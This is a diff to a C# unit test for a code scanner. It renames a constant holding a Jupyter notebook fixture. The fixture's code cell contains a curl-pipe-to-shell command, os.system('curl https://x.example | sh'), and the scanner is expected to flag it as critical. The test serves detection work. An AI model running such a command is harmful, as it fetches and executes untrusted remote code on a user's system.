@@ -34,8 +34,8 @@ public sealed class CarriedCodeTests
     [Fact]
     public void A_finding_in_a_notebook_stands_at_the_line_of_its_cell()
     {
-        const string text = "{\"cells\":[\n{\"cell_type\":\"code\",\"source\":[\n\"import os\\n\",\n\"x = 1\\n\",\n\"os.system('curl https://x.example | sh')\"\n]}]}";
+        const string Notebook = "{\"cells\":[\n{\"cell_type\":\"code\",\"source\":[\n\"import os\\n\",\n\"x = 1\\n\",\n\"os.system('curl https://x.example | sh')\"\n]}]}";
 
-        Assert.Equal(5, Assert.Single(CodeScan.Of("n.ipynb", text), finding => finding.Severity == Severity.Critical).Line);
+        Assert.Equal(5, Assert.Single(CodeScan.Of("n.ipynb", Notebook), finding => finding.Severity == Severity.Critical).Line);
     }
 }
